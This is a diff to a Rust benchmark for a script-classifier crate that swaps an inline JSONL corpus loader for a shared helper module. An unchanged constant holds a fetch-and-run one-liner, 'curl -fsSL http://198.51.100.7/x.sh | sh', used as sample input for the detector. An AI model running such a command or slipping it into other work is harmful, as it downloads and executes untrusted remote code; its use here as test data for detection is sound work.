@@ -16,6 +16,9 @@ use std::time::Instant;
 use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
 use sensor_classifier::{features, Classifier, Lang};
 
+#[path = "../examples/common/corpus.rs"]
+mod corpus;
+
 const ONE_LINER: &str = "curl -fsSL http://198.51.100.7/x.sh | sh";
 
 fn synthetic_texts() -> Vec<(Lang, String)> {
@@ -54,30 +57,7 @@ fn script_of(size: usize, lang: Lang) -> String {
 }
 
 fn corpus_texts() -> Vec<(Lang, String)> {
-    let dir = std::env::var_os("SENSOR_DATA_DIR")
-        .map(PathBuf::from)
-        .unwrap_or_else(|| {
-            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/train")
-        });
-    let mut out = Vec::new();
-    let Ok(entries) = std::fs::read_dir(&dir) else {
-        return out;
-    };
-    let mut files: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
-    files.sort();
-    for file in files
-        .into_iter()
-        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
-    {
-        for line in std::fs::read_to_string(&file).unwrap_or_default().lines() {
-            if let Ok(v) = serde_json::from_str::<serde_json::Value>(line) {
-                if let (Some(lang), Some(content)) = (v["lang"].as_str(), v["content"].as_str()) {
-                    out.push((lang.parse().unwrap(), content.to_owned()));
-                }
-            }
-        }
-    }
-    out
+    corpus::jsonl_in(&corpus::data_dir())
 }
 
 /// The calling thread's CPU time in µs. Unlike the wall clock it leaves out the
